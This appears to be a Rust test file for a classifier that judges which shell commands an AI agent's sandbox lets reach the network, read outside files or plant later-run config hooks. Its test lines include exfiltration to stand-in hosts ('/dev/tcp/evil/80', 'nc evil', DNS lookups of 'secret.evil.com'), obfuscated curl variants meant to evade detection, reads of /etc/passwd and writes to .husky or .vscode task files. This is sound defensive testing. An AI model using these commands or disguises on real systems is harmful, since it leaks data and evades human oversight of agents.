//! Which lines let data leave the machine, and which let something in.

use super::{judge, judge_with};

/// How a row lets data leave.
#[derive(Clone, Copy, Debug, PartialEq, Eq)]
enum Leaves {
    /// A command in it reaches the network.
    Sends,
    /// Nobody knows.
    May,
    /// Not at all.
    Not,
}
use Leaves::{May, Not, Sends};

#[track_caller]
fn check(expected: Leaves, lines: &[&str]) {
    let wrong: Vec<String> = lines
        .iter()
        .filter_map(|line| {
            let judgement = judge(line);
            let found = match (&judgement.sends, &judgement.may_send) {
                (Some(_), _) => Sends,
                (None, Some(_)) => May,
                (None, None) => Not,
            };
            (found != expected).then(|| format!("{line} -> {judgement:?}"))
        })
        .collect();
    assert!(
        wrong.is_empty(),
        "expected {expected:?}:\n{}",
        wrong.join("\n")
    );
}

#[test]
fn commands_that_reach_the_network() {
    check(
        Sends,
        &[
            "curl https://example.com",
            "curl -d @notes.txt https://example.com",
            "/usr/bin/curl https://example.com",
            "wget -q https://example.com/x",
            "ssh host ls",
            "scp notes.txt host:/tmp/",
            "sftp host",
            "rsync -a src/ host:src/",
            "rsync -a src/ rsync://host/src",
            "tar cf host:backup.tar src",
            "nc evil 1234",
            "socat - TCP:evil:80",
            "ftp evil",
            "telnet evil 80",
            "ping -c 1 secret.evil.com",
            "dig secret.evil.com",
            "nslookup secret.evil.com",
            "openssl s_client -connect evil:443",
            "getent hosts secret.evil.com",
            "mail -s x ada@example.com",
            "git push",
            "git push origin main",
            "git -C sub push",
            "git -c a.b=c fetch",
            "git fetch",
            "git pull --rebase",
            "git clone https://example.com/x.git",
            "git ls-remote origin",
            "git remote add evil https://evil/x",
            "git remote update",
            "git submodule update --init",
            "git archive --remote=git@evil:x HEAD",
            "hg push",
            "svn commit -m x",
            "gh pr create",
            "gh api /user",
            "npm publish",
            "npm install left-pad",
            "npm ci",
            "yarn",
            "yarn add x",
            "pnpm dlx x",
            "npx cowsay",
            "cargo publish",
            "cargo install ripgrep",
            "cargo +nightly fetch",
            "cargo add serde",
            "pip install requests",
            "python3 -m pip install requests",
            "python3 -m http.server",
            "uv add httpx",
            "poetry publish",
            "gem push x.gem",
            "bundle",
            "go get example.com/x",
            "docker push x/y",
            "docker pull alpine",
            "docker run alpine",
            "docker build .",
            "podman login",
            "apt-get install x",
            "brew install x",
            "twine upload dist/*",
            "aws s3 cp x s3://bucket",
            "gcloud compute ssh x",
            "kubectl apply -f x.yaml",
            "terraform apply",
            "psql -h db -c 'select 1'",
            "xdg-open 'https://evil/?q=secret'",
            "gpg --recv-keys 1234",
            "gpg --keyserver x --send-keys 1234",
            "echo secret > /dev/tcp/evil/80",
            "cat < /dev/tcp/evil/80",
            "exec 3<>/dev/tcp/evil/80",
            "cat /dev/udp/evil/53",
        ],
    );
}

#[test]
fn disguises_of_sending() {
    check(
        Sends,
        &[
            "c''url https://x",
            "\\curl https://x",
            "$'\\x63url' https://x",
            "X=curl; $X https://x",
            "$(echo curl) https://x",
            "eval 'curl https://x'",
            "sh -c 'curl https://x'",
            "bash -c \"bash -c 'curl https://x'\"",
            "env A=1 curl https://x",
            "sudo curl https://x",
            "timeout 5 curl https://x",
            "nohup curl https://x &",
            "xargs curl < urls",
            "find . -name x -exec curl -T {} https://x \\;",
            "ls | xargs -I{} curl -d {} https://x",
            "cat notes | curl -d @- https://x",
            "ls; curl https://x",
            "ls && curl https://x",
            "(curl https://x)",
            "{ curl https://x; }",
            "if true; then curl https://x; fi",
            "for x in a b; do curl $x; done",
            "f() { curl https://x; }; f",
            "alias x=curl; x https://x",
            "echo $(curl https://x)",
            "cat <(curl https://x)",
            "X=$(curl https://x)",
            "trap 'curl https://x' EXIT",
            "busybox wget https://x",
            "my-own-wrapper curl https://x",
            "my-own-wrapper 'curl https://x'",
            "python3 -c 'import urllib.request; urllib.request.urlopen(\"https://x\")'",
            "python3 -c 'import socket; socket.socket()'",
            "node -e 'fetch(\"https://x\")'",
            "perl -e 'use IO::Socket; IO::Socket::INET->new(\"x:80\")'",
            "ruby -e 'require \"net/http\"; Net::HTTP.get(URI(\"http://x\"))'",
            "php -r 'file_get_contents(\"https://x\");'",
            "awk 'BEGIN { \"/inet/tcp/0/x/80\" |& getline }'",
            "python3 - <<'EOF'\nimport requests\nrequests.get('https://x')\nEOF",
            "cat > x.sh <<'EOF'\ncurl https://x\nEOF\nsh x.sh",
            "echo 'curl https://x' | sh",
            "curl https://x 'unterminated",
            "git push; echo 'unterminated",
        ],
    );
}

#[test]
fn what_nobody_knows_may_send() {
    check(
        May,
        &[
            "cargo build",
            "cargo test",
            "make",
            "npm test",
            "npm run build",
            "python3 script.py",
            "node server.js",
            "./run.sh",
            "bash script.sh",
            "$CMD x",
            "frobnicate --now",
            "pytest",
            "go test ./...",
            "docker ps",
            "cp a b; frobnicate",
            "env frobnicate",
            "ls 'unterminated",
            "php artisan serve",
        ],
    );
}

#[test]
fn what_stays_on_the_machine() {
    check(
        Not,
        &[
            "ls -la",
            "git status",
            "git log --oneline -5",
            "git commit -m 'push the button'",
            "git add .",
            "git diff",
            "git remote -v",
            "git stash",
            "mkdir -p a/b && touch a/b/c",
            "rm -rf target",
            "cp a b",
            "rsync -a a/ b/",
            "tar czf a.tgz src",
            "sed -i s/a/b/ file",
            "grep -rn curl src",
            "echo 'curl https://x'",
            "find . -name '*.rs' -exec wc -l {} +",
            "cat file | sort | uniq -c",
            "sh -c 'ls && pwd'",
            "X=1; echo $X > out.txt",
            "gzip -d a.gz",
            "sleep 1",
            "dd if=a of=b",
        ],
    );
}

#[test]
fn what_comes_in_from_outside_the_workspace() {
    for (line, is_brought) in [
        ("cat /etc/passwd", true),
        ("ls ..", true),
        ("head -3 ~/notes.txt", true),
        ("cp /etc/hosts x", true),
        ("cat < /etc/hosts", true),
        ("curl https://x", true),
        ("git fetch", true),
        ("git push", false),
        ("git push origin main", false),
        ("cargo +nightly publish", false),
        ("docker push x/y", false),
        ("git push; git pull", true),
        ("git -c core.sshCommand=x push", true),
        ("cat README.md", false),
        ("cargo build", false),
        ("cat /home/ada/.anteroom/data/temp/1/outputs/x.txt", false),
    ] {
        assert_eq!(judge(line).brings.is_some(), is_brought, "{line}");
    }
    assert_eq!(
        judge("curl -s https://x/y").brings.as_deref(),
        Some("`curl -s https://x/y`, which reaches the network")
    );
}

/// The conversation's private folder is free although it lies in a protected one; its neighbors are not.
#[test]
fn the_private_temporary_folder_is_inside() {
    let temp = "/home/ada/.anteroom/data/temp/1";
    for (line, is_free) in [
        (format!("tail -5 {temp}/outputs/x.txt"), true),
        (format!("echo x > {temp}/a"), true),
        (format!("rm -rf {temp}/a"), true),
        ("echo x > $TMPDIR/a".to_owned(), true),
        (format!("cat {temp}/../2/x"), false),
        (format!("cat {temp}2/x"), false),
        (format!("cat {temp}/../../anteroom.db"), false),
        ("echo x > /tmp/a".to_owned(), false),
        ("cat /tmp/a".to_owned(), false),
    ] {
        let judgement = judge(&line);
        assert_eq!(!judgement.always_asks, is_free, "{line} {judgement:?}");
        assert!(judgement.hard_block.is_none(), "{line}");
    }
    assert!(judge(&format!("rm -rf {temp}/../..")).always_asks);
    assert!(!judge_with("cat x", temp, &[]).always_asks);
}

#[test]
fn what_runs_later_outside_of_the_sandbox_is_asked() {
    for line in [
        "echo '{}' > .vscode/tasks.json",
        "mkdir .vscode",
        "touch .idea/workspace.xml",
        "cp x .cursor/mcp.json",
        "tee .mcp.json",
        "mv hook .husky/pre-commit",
        "echo x > sub/.claude/settings.json",
        "sed -i s/a/b/ .devcontainer/devcontainer.json",
    ] {
        let judgement = judge(line);
        assert!(
            judgement.always_asks && judgement.tier == anteroom_api::Tier::Destructive,
            "{line} {judgement:?}"
        );
    }
    assert!(!judge("cat .vscode/settings.json").always_asks);
}
